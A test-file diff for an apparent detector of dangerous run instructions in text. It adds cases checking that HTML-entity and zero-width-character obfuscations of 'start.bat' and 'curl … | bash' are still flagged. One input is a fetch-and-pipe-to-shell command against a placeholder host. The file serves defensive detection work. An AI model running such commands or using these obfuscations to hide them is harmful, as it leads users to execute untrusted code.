@@ -22,3 +22,16 @@ test.each([
   ['in a comment that never ends', '<!--\n\nRun `start.bat`.'],
   ['before the end of a comment', '<!-- x\nRun `start.bat`. --> Thank you.'],
 ])('not read: %s', (_, text) => expect(told(text)).toEqual([]));
+
+test.each([
+  ['Run `start&#46;bat` now.', 'run-windows-launcher'],
+  ['Run start&#x2e;bat as administrator.', 'run-as-administrator'],
+  ['Run start&period;bat as administrator.', 'run-as-administrator'],
+  ['Double-click st&shy;art.b\u200bat.', 'run-windows-launcher'],
+  ['<pre>curl https://cdn.example/a &#124; bash</pre>', 'curl-pipe-shell'],
+])('as a browser shows it: %s', (text, pattern) => expect(told(text)).toContain(pattern));
+
+test.each(['A &#9999999; that is none, and &nosuch; and run &start.bat; later.', '```\nstart&#46;bat\n```'])(
+  'not shown otherwise: %s',
+  text => expect(told(text)).not.toContain('curl-pipe-shell'),
+);
